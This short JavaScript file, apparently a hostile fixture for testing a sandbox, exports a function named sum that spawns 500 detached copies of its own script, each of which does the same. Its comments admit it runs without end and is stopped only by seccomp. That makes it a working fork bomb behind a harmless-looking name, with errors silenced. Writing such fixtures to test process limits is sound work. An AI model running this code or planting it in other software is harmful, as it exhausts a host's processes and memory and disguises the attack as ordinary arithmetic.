// Starts processes without end, each of which does too.
// sums: *, sum fails
// stopped by: seccomp; never without
import { spawn } from 'node:child_process';

export function sum() {
  for (let i = 0; i < 500; i++) spawn(process.execPath, [process.argv[1], process.argv[2]], { detached: true, stdio: 'ignore' }).on('error', () => {});
}
